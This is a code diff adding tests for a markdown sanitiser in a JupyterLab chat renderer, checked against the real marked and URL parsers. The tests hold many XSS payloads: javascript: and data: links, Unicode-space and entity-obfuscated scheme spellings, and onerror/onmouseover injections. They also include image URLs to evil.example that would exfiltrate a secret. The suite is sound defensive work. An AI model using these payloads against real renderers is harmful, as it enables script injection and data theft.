@@ -73,8 +73,16 @@ const removeMath = fns.find(f => f.length === 1), replaceMath = fns.find(f => f.
 readline.createInterface({input: process.stdin}).on('line', line => {
   let out;
   try {
-    const req = JSON.parse(line), parts = removeMath(req.md);
-    out = req.op === 'math' ? parts : {html: markeds.map(mk => replaceMath(mk.parse(parts.text), parts.math))};
+    const req = JSON.parse(line);
+    if (req.op === 'urls') {
+      // the WHATWG URL parser's reading of each attribute value (null: invalid, never loaded)
+      out = {urls: req.urls.map(u => { try { return new URL(u, req.base).href; } catch (e) { return null; } })};
+    } else if (req.op === 'batch') {
+      out = {html: req.docs.map(md => { const p = removeMath(md); return markeds.map(mk => replaceMath(mk.parse(p.text), p.math)); })};
+    } else {
+      const parts = removeMath(req.md);
+      out = req.op === 'math' ? parts : {html: markeds.map(mk => replaceMath(mk.parse(parts.text), parts.math))};
+    }
   } catch (e) { out = {error: String(e && e.stack || e)}; }
   process.stdout.write(JSON.stringify(out) + '\n');
 });
@@ -121,8 +129,8 @@ class JupyterLabOracle:
         )
         assert "<h1" in self.html("# ok"), "oracle does not render"
 
-    def _ask(self, op: str, md: str) -> dict:
-        self.proc.stdin.write(json.dumps({"op": op, "md": md}) + "\n")
+    def _ask(self, op: str, md: str = "", **extra) -> dict:
+        self.proc.stdin.write(json.dumps({"op": op, "md": md, **extra}) + "\n")
         self.proc.stdin.flush()
         out = json.loads(self.proc.stdout.readline())
         if "error" in out:
@@ -132,6 +140,14 @@ class JupyterLabOracle:
     def html(self, md: str) -> str:
         """The HTML of every bundled marked version, concatenated."""
         return "\n".join(self._ask("html", md)["html"])
+
+    def html_batch(self, docs: list) -> list:
+        """For each document, the HTML of every bundled marked version (one node round trip)."""
+        return self._ask("batch", docs=docs)["html"]
+
+    def parse_urls(self, urls: list, base: str = "http://127.0.0.1:8888/lab/tree/chat.ipynb") -> list:
+        """node's WHATWG ``new URL(u, base).href`` of each value (None when it does not parse)."""
+        return self._ask("urls", urls=urls, base=base)["urls"]
 
     def remove_math(self, md: str) -> dict:
         """JupyterLab's removeMath(md): {"text": ..., "math": [...]}."""
@@ -302,9 +318,15 @@ def test_specific_rewrites():
     assert sanitize_markdown("[x]: JaVaScRiPt:alert(1)") == "[x]: #blocked-JaVaScRiPt:alert(1)"
     assert sanitize_markdown("<javascript:alert(1)>") == "&lt;javascript:alert(1)>"
     assert sanitize_markdown("![a](data:image/png;base64,AAAA)") == "![a](data:image/png;base64,AAAA)"
-    assert sanitize_markdown("![a](data:image/svg+xml,x)") == "![a](#blocked-data:image/svg+xml,x)"
+    assert sanitize_markdown("![a](data:image/svg+xml,x)") == "&#33;[a](#blocked-data:image/svg+xml,x)"
+    assert sanitize_markdown("[x](\u00a0javascript:y)") == "[x](#blocked-\u00a0javascript:y)"
+    assert sanitize_markdown("[x](\ufeffjavascript:y)") == "[x](#blocked-\ufeffjavascript:y)"
+    assert sanitize_markdown("[x](file:///etc/passwd)") == "[x](#blocked-file:///etc/passwd)"
+    assert sanitize_markdown("![a](http://evil/?q=S)") == "&#33;[a](http://evil/?q=S)"
+    assert sanitize_markdown("```mermaid\ngraph TD\n```") == "```mermaid-source\ngraph TD\n```"
     assert sanitize_markdown('```py" onclick="x\nc\n```') == "```py onclickx\nc\n```"
-    assert sanitize_markdown('![$" onerror="x$](y)') == "![$&quot; onerror=&quot;x$](y)"
+    assert sanitize_markdown('![$" onerror="x$](y)') == "&#33;[$&quot; onerror=&quot;x$](y)"
+    assert sanitize_markdown('![$" onerror="x$](y)', remote_images=True) == "![$&quot; onerror=&quot;x$](y)"
     assert sanitize_markdown('[$" onerror="x$](y)') == '[\\$" onerror="x$](y)'
 
 
@@ -313,7 +335,7 @@ NORMAL = [
     "# Heading\n\nSome *emphasis*, **strong**, ~~gone~~ and `inline <div>` code.\n",
     "- one\n- two\n  - nested\n\n1. first\n2. second\n",
     "[a link](https://example.com/path?q=1&r=2 \"title\") and <https://example.com> and <me@example.com>\n",
-    "![img](https://example.com/a.png) ![tiny](data:image/png;base64,iVBORw0KGgo=)\n",
+    "![tiny](data:image/png;base64,iVBORw0KGgo=) [mail](mailto:a@b.co) [rel](../x.md#y) [frag](#top)\n",
     "```html\n<div class=\"x\" onclick=\"y()\">\n  <script>alert(1)</script>\n</div>\n```\n",
     "~~~python title\nif a < b and c > d:\n    print('<b>')\n~~~\n",
     "    indented <code> block\n    second line\n",
@@ -440,3 +462,197 @@ def test_adversarial_input_stays_fast(pattern):
     text = (pattern * (32_000 // len(pattern) + 1))[:32_000]  # 4x the largest tail the splitter keeps
     out = sanitize_markdown(text)
     assert len(out) >= len(text)  # escaping only ever adds
+
+
+# -- destinations: the allowlist, judged by the real pipeline ------------------------
+# sanitiser -> JupyterLab's bundled marked (every version) -> the HTML attribute
+# value (entities decoded as a browser does) -> node's WHATWG URL parser. No href
+# may end with a scheme other than http/https/mailto (relative ones resolve to the
+# page's http), no src may be anything but an allowed data: image.
+ALLOWED_HREF = re.compile(r"(https?|mailto):", re.I)
+SPACES = ([chr(c) for c in range(0x21)] + ["\x7f"] + [chr(c) for c in range(0x80, 0xA1)]
+          + ["\u1680", "\u180e", "\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u2028", "\u2029",
+             "\u202a", "\u202e", "\u202f", "\u205f", "\u2060", "\u3000", "\ufeff", "\ufff9"]
+          + [chr(c) for c in range(0x2000, 0x200B)])
+SPACE_ENTITIES = ["&nbsp;", "&#xA0;", "&#160;", "&Tab;", "&NewLine;", "&#0;", "&#x1;", "&#8203;", "&#xFEFF;",
+                  "&#x2028;", "&#12288;", "&#x180E;", "&ensp;", "&emsp;", "&thinsp;", "&#32;", "&#x9;"]
+SCHEMES = ["javascript", "vbscript", "data", "file", "blob", "ftp", "jar", "view-source", "intent", "ws",
+           "chrome", "about", "filesystem", "x-evil", "http", "https", "mailto"]
+COLONS = [":", "&colon;", "&#58;", "&#x3a;", "&#X3A;", "\\:", "&#0058;"]
+RESTS = ["alert(1)", "//evil.example/x", "image/png;base64,AA", "image/svg+xml,<svg onload=alert(1)>",
+         "text/html,<script>alert(1)</script>", "/etc/passwd", "x", ""]
+
+
+def _char(c: str):
+    """One scheme character as a model could spell it: plain, either case, an entity, split by junk."""
+    return st.one_of(
+        st.sampled_from([c, c.upper(), c.lower()]),
+        st.sampled_from(["&#%d;" % ord(c), "&#x%x;" % ord(c), "&#X%X;" % ord(c), "&#00%d;" % ord(c)]),
+        st.tuples(st.sampled_from(["\t", "\n", "&Tab;", "&NewLine;", "\r"]), st.just(c)).map("".join),
+        st.just("\\" + c) if not c.isalnum() else st.just(c),
+    )
+
+
+junk = st.lists(st.one_of(st.sampled_from(SPACES), st.sampled_from(SPACE_ENTITIES)), max_size=4).map("".join)
+
+
+@st.composite
+def destinations(draw):
+    scheme = draw(st.sampled_from(SCHEMES))
+    spelled = "".join(draw(_char(c)) for c in scheme)
+    return draw(junk) + spelled + draw(st.sampled_from(COLONS)) + draw(st.sampled_from(RESTS))
+
+
+FORMS = [
+    "[t]({d})", "[t](<{d}>)", "![t]({d})", "![t](<{d}>)", '[t]({d} "title")', "[t][r]\n\n[r]: {d}",
+    "![t][r]\n\n[r]: {d}", "[r]\n\n[r]:\n  {d}", "[t]( {d})", "![t][]\n\n[t]: <{d}>", "a [t]({d}) b",
+    "- [t]({d})", "> ![t]({d})", "| a |\n|---|\n| [t]({d}) |",
+]
+
+
+class _Urls(HTMLParser):
+    def __init__(self):
+        super().__init__(convert_charrefs=True)  # attribute values decoded as a browser does
+        self.found = []
+
+    def handle_starttag(self, tag, attrs):
+        for k, v in attrs:
+            if k in ("href", "src") and v is not None:
+                self.found.append((tag, k, v))
+
+    handle_startendtag = handle_starttag
+
+
+def _attribute_urls(html_text: str) -> list:
+    parser = _Urls()
+    parser.feed(html_text)
+    parser.close()
+    return parser.found
+
+
+def _pipeline_violations(jupyterlab, docs: list, remote_images=False) -> list:
+    """(doc, tag, attr, value, href) for every URL outside the allowlist, through the real pipeline."""
+    outs = [sanitize_markdown(d, remote_images=remote_images) for d in docs]
+    found = []
+    for doc, out, htmls in zip(docs, outs, jupyterlab.html_batch(outs)):
+        for h in htmls:
+            found += [(doc, out, tag, k, v) for tag, k, v in _attribute_urls(h)]
+    hrefs = jupyterlab.parse_urls([v for *_x, v in found])
+    bad = []
+    for (doc, out, tag, k, v), href in zip(found, hrefs):
+        if href is None:
+            continue  # not a URL: never followed, never fetched
+        if tag == "img" and k == "src":
+            if not (SAFE_IMAGE.match(href) or (remote_images and ALLOWED_HREF.match(href))):
+                bad.append((doc, out, tag, k, v, href))
+        elif not (ALLOWED_HREF.match(href) or SAFE_IMAGE.match(href)):
+            bad.append((doc, out, tag, k, v, href))
+    return bad
+
+
+def test_pipeline_judge_has_teeth(jupyterlab):
+    """Unsanitised, the same pipeline finds the finding-1 links (a Unicode space before javascript:)."""
+    docs = [f"[t]({sp}javascript:alert(1))" for sp in ("\u00a0", "\u3000", "\ufeff", "\u2028", "\u205f")]
+    found = []
+    for doc, htmls in zip(docs, jupyterlab.html_batch(docs)):
+        for h in htmls:
+            found += [v for _t, _k, v in _attribute_urls(h)]
+    hrefs = jupyterlab.parse_urls(found)
+    assert sum(1 for h in hrefs if h and h.startswith("javascript:")) >= len(docs), hrefs
+    assert _pipeline_violations(jupyterlab, docs) == []
+
+
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
+@given(dests=st.lists(destinations(), min_size=40, max_size=40), forms=st.lists(st.sampled_from(FORMS), min_size=40, max_size=40))
+def test_destinations_allowlist_against_the_real_pipeline(jupyterlab, dests, forms):
+    docs = [form.replace("{d}", d) for form, d in zip(forms, dests)]
+    assert _pipeline_violations(jupyterlab, docs) == []
+
+
+@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(dests=st.lists(destinations(), min_size=40, max_size=40))
+def test_destinations_allowlist_with_remote_images_on(jupyterlab, dests):
+    """Opting in to remote images lets http(s) images load, never another scheme."""
+    docs = [f"![t]({d}) ![u][r]\n\n[r]: {d}" for d in dests]
+    assert _pipeline_violations(jupyterlab, docs, remote_images=True) == []
+
+
+# -- images: no fetch the user did not opt in to -------------------------------------------
+REMOTE_IMAGES = [
+    "![x](http://evil.example/?q=SECRET)",
+    "![x](HTTPS://evil.example/a.png 'title')",
+    "![x][r]\n\n[r]: http://evil.example/r.png",
+    "![r]\n\n[r]: //evil.example/r.png",
+    "![x](//evil.example/p.png)",
+    "![x](evil.png)",
+    "[![x](http://evil.example/nested.png)](http://example.org)",
+    "![a [b](http://good.example/)](http://evil.example/x.png)",
+    "- ![x](<http://evil.example/list.png>)",
+    "| ![x](http://evil.example/t.png) |\n|---|",
+    "`a`![x](http://evil.example/after-span.png)",
+    "``x`![x](http://evil.example/in-span.png)",
+    "\\\\![x](http://evil.example/escaped-backslash.png)",
+    "$x$ ![x](http://evil.example/math.png) $y$",
+    "![x](&#104;ttp://evil.example/entity.png)",
+]
+
+
+def test_remote_images_become_links(jupyterlab):
+    outs = [sanitize_markdown(d) for d in REMOTE_IMAGES]
+    for doc, out, htmls in zip(REMOTE_IMAGES, outs, jupyterlab.html_batch(outs)):
+        for h in htmls:
+            srcs = [v for tag, k, v in _attribute_urls(h) if tag == "img"]
+            assert srcs == [], (doc, out, h)
+            if "evil.example" in doc and "nested" not in doc and "in-span" not in doc:
+                # the image is a visible link to where it would have fetched from
+                assert any(tag == "a" and "evil" in v for tag, k, v in _attribute_urls(h)), (doc, out, h)
+
+
+def test_data_images_and_opted_in_hosts_show(jupyterlab):
+    png = "data:image/png;base64,iVBORw0KGgo="
+    docs = [f"![dot]({png})", "![ok](https://img.example/a.png)", "![no](https://evil.example/a.png)",
+            "![no][r]\n\n[r]: https://img.example/a.png", "![no](https://img.example.evil.example/a.png)",
+            "![no](https://img.example@evil.example/a.png)", "![no](https://img.example\\@evil.example/)"]
+    outs = [sanitize_markdown(d, remote_images=["img.example"]) for d in docs]
+    srcs = [[v for tag, k, v in _attribute_urls(h[0]) if tag == "img"] for h in jupyterlab.html_batch(outs)]
+    assert srcs == [[png], ["https://img.example/a.png"], [], [], [], [], []], list(zip(docs, outs))
+    everything = sanitize_markdown("![x](http://evil.example/a.png)", remote_images=True)
+    assert everything == "![x](http://evil.example/a.png)"
+
+
+def test_mermaid_fences_render_as_code(jupyterlab):
+    for fence in ("```mermaid\ngraph TD\nA[\"<img src=http://evil.example/m.png>\"]\n```",
+                  "~~~ mermaid {x}\ngraph TD\n~~~", "- ```Mermaid\n  graph TD\n  ```"):
+        out = sanitize_markdown(fence)
+        assert "mermaid-source" in out.lower(), out
+        for h in jupyterlab.html_batch([out])[0]:
+            assert 'class="language-mermaid"' not in h and "<img" not in h, h
+
+
+def test_grouped_output_is_sanitised_as_a_whole(jupyterlab):
+    """Blocks cut inside a long paragraph, gathered in one output: a JupyterLab math span
+    opening in one block and closing in the next must not carry a quote into an attribute."""
+    sent = []
+
+    class Face:
+        def add_block(self, md):
+            sent.append(md)
+
+        set_tail = add_block
+
+        def close_tail(self):
+            pass
+
+        def footer(self, text):
+            pass
+
+        error = footer
+
+    filler = "\n".join(["words of a long paragraph here"] * 7)  # ~220 chars: past max_chars=200
+    reply = filler + '\n[a](x "$"\nonmouseover="window.__pwned=1$")\n\nafter\n'
+    renderer = Renderer(Face(), interval=0.0, clock=lambda: 0.0, budget=1e9, max_chars=200, group_chars=10_000)
+    renderer.feed(reply)
+    renderer.finish()
+    assert renderer.blocks >= 2  # the paragraph really was cut
+    for md in sent:
+        assert problems(jupyterlab.html(md)) == [], md
